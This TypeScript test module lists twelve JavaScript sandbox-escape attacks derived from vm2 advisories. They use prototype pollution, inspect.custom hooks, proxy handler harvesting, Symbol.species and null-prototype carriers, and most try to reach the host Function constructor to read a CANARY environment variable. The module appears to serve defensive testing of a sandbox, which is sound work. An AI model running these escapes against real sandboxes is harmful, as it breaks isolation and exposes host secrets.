import type { Attack } from '../attack.ts'

const read = `'return process.env.CANARY'`

/** E19: what has broken bridges between two realms of one engine: proxies, symbols, prototypes, species, carriers. */
export const bridges: readonly Attack[] = [
  {
    id: 'E19-a',
    title: 'a property on the prototype of all objects of the host',
    from: ['vm2-cat2-0', 'vm2-GHSA-vwrp-x96c-mhwq-repro'],
    code: `
      const up = ({}).__lookupGetter__('__proto__')
      let top = echo
      for (let next = up.call(top); next; next = up.call(next)) top = next
      top.polluted = 'yes'
      finalAnswer('done')`,
    open: 'pollution',
    here: 'answer',
  },
  {
    id: 'E19-b',
    title: 'host prototypes defined, deleted and frozen through results and errors',
    from: ['vm2-GHSA-vwrp-x96c-mhwq-repro'],
    code: `
      const error = await fail().catch((caught) => caught)
      const { rows } = await load()
      for (const part of [error, rows, echo, console.log, echo()]) {
        const holder = Object.getPrototypeOf(part)
        try { Object.defineProperty(holder, 'planted', { get: () => 'x', configurable: true }) } catch {}
        try { delete holder.toString } catch {}
      }
      finalAnswer('done')`,
    open: 'pollution',
    here: 'answer',
  },
  {
    id: 'E19-c',
    title: 'an iterator of the host that the code replaces',
    from: ['vm2-GHSA-vwrp-x96c-mhwq-repro'],
    code: `
      const { rows } = await load()
      Object.getPrototypeOf(rows).at = function () { return this }
      Object.getPrototypeOf(Object.getPrototypeOf(rows)).hasOwnProperty = () => true
      finalAnswer('done')`,
    open: 'pollution',
    here: 'answer',
  },
  {
    id: 'E19-d',
    title: 'a value that inspects itself when the host prints it',
    from: ['vm2-cat3-0', 'vm2-GHSA-v37h-5mfm-c47c-harvest-probe'],
    code: `
      let stolen = ''
      const custom = Symbol.for('nodejs.util.inspect.custom')
      console.debug({ [custom](depth, options, inspect) { stolen = inspect.constructor(${read})(); return '' } })
      finalAnswer(stolen)`,
    open: 'leak',
    here: 'answer',
    right: { answer: '' },
  },
  {
    id: 'E19-e',
    title: 'handlers of proxies, taken from whoever looks into them',
    from: ['vm2-cat6-0', 'vm2-GHSA-v37h-5mfm-c47c-harvest-history'],
    code: `
      let stolen = ''
      const custom = Symbol.for('nodejs.util.inspect.custom')
      const seen = { [custom](...given) { for (const part of given) if (typeof part === 'function') stolen = part.constructor(${read}) } }
      const spy = new Proxy(seen, { get(target, key) { return target[key] }, getPrototypeOf: () => seen })
      console.debug(seen, spy, new Proxy(echo, spy))
      finalAnswer(typeof stolen === 'function' ? stolen() : stolen)`,
    open: 'leak',
    here: 'answer',
    right: { answer: '' },
  },
  {
    id: 'E19-f',
    title: 'the options of the host, from a value that inspects itself',
    from: ['vm2-GHSA-v37h-5mfm-c47c-harvest-history', 'vm2-cat3-0'],
    code: `
      let stolen = ''
      console.debug({
        [Symbol.for('nodejs.util.inspect.custom')](depth, options) {
          stolen = [...Object.values(options ?? {}), arguments[2]].filter(Boolean).map((part) => {
            try { return part.constructor.constructor(${read})() } catch (error) { return error.name }
          }).join()
        },
      })
      finalAnswer(stolen)`,
    open: 'leak',
    here: 'answer',
    right: { answer: '' },
  },
  {
    id: 'E19-g',
    title: 'symbols and descriptors that hang on objects of the host',
    from: ['vm2-cat8-0'],
    code: `
      const found = []
      for (const part of [setTimeout(() => {}, 1), await load(), await fail().catch((error) => error), echo()]) {
        for (let holder = Object(part); holder; holder = Object.getPrototypeOf(holder)) {
          const described = Object.getOwnPropertyDescriptors(holder)
          for (const key of Reflect.ownKeys(described)) {
            const { value } = described[key]
            if (typeof key !== 'symbol' || typeof value !== 'function') continue
            try { found.push(value.constructor(${read})()) } catch {}
          }
        }
      }
      finalAnswer(found.join())`,
    open: 'leak',
    here: 'answer',
  },
  {
    id: 'E19-h',
    title: 'a proxy in every place of an argument',
    from: ['vm2-cat6-0'],
    code: `
      const stolen = []
      const note = (value) => { try { stolen.push(Object(value).constructor.constructor(${read})()) } catch {} }
      const spy = (target) => new Proxy(target, new Proxy({}, {
        get: (_, trap) => (...given) => { given.forEach(note); return Reflect[trap](...given) },
      }))
      for (const make of [() => spy({ a: 1 }), () => [spy([1])], () => spy(() => {}), () => new Map([[spy({}), spy({})]])]) {
        await Promise.resolve(echo(make())).catch(() => {})
        try { console.log(make()) } catch {}
        try { setTimeout(spy(function () { note(this) }), 1) } catch {}
      }
      await new Promise((resolve) => setTimeout(resolve, 5))
      finalAnswer(stolen.join())`,
    open: 'leak',
    here: 'answer',
  },
  {
    id: 'E19-i',
    title: 'what toPrimitive, hasInstance, unscopables and toStringTag are called with',
    from: ['vm2-cat3-0'],
    code: `
      const stolen = []
      const note = (...given) => { for (const one of given) try { stolen.push(one.constructor.constructor(${read})()) } catch {} }
      const value = {
        [Symbol.toPrimitive](hint) { note(this, arguments, new.target); return 'text' },
        get [Symbol.toStringTag]() { note(this); return 'Tag' },
        get [Symbol.unscopables]() { note(this); return {} },
        static: class { static [Symbol.hasInstance](one) { note(one); return true } },
        toString() { note(arguments); return 'text' },
      }
      console.log(value, [value])
      setTimeout(function () { note(this) }, value)
      await new Promise((resolve) => setTimeout(resolve, 5))
      await echo(value).catch(() => {})
      finalAnswer(stolen.join())`,
    open: 'leak',
    here: 'answer',
  },
  {
    id: 'E19-j',
    title: 'a carrier without prototype, thrown and caught',
    from: ['vm2-cat26-0', 'vm2-GHSA-9vg3-4rfj-wgcm-repro'],
    code: `
      const carrier = { __proto__: null }
      try { throw carrier } catch (caught) { caught.tool = echo }
      finalAnswer(carrier.tool.constructor(${read})())`,
    open: 'leak',
    here: 'error:ReferenceError',
  },
  {
    id: 'E19-k',
    title: 'a carrier without prototype, resolved by a promise',
    from: ['vm2-cat26-0', 'vm2-GHSA-mpf8-4hx2-7cjg-repro'],
    code: `
      const carrier = { __proto__: null }
      await Promise.resolve(carrier).then(async (given) => { given.made = (await load()).rows.concat })
      finalAnswer(carrier.made.constructor(${read})())`,
    open: 'leak',
    here: 'error:ReferenceError',
  },
  {
    id: 'E19-l',
    title: 'species constructors of promises, arrays and buffers that see what is made',
    from: ['vm2-cat18-0', 'vm2-cat7-0'],
    code: `
      const stolen = []
      const promise = echo(1)
      class Spy {
        constructor(executor) { stolen.push(executor.constructor); return new Promise(executor) }
        static get [Symbol.species]() { return Spy }
      }
      promise.constructor = Spy
      promise.then(() => {})
      finalAnswer(stolen.concat(promise.then.constructor).map((Make) => {
        try { return Make(${read})() } catch (error) { return error.name }
      }).join())`,
    open: 'leak',
    here: 'answer',
    right: { calls: ['echo'] },
  },
]
